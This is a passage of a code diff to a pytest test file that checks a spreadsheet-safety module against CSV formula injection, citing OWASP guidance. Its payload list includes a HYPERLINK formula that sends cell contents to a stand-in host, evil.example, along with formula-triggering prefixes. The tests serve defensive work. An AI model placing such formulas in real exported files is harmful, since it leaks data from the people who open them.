@@ -6,13 +6,17 @@ import pytest
 
 from inspir.core.spreadsheet import SafeCsvWriter, csv_download, safe_cell
 
-HOSTILE = [
+# What a spreadsheet would evaluate, as in OWASP's guidance on CSV injection.
+ISSUE_PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "+1+1",
     "-2+3",
     "@SUM(A1)",
     "\t=1",
     "\r=1",
+]
+HOSTILE = [
+    *ISSUE_PAYLOADS,
     "\0=1",
     "-",
     "-12 members",
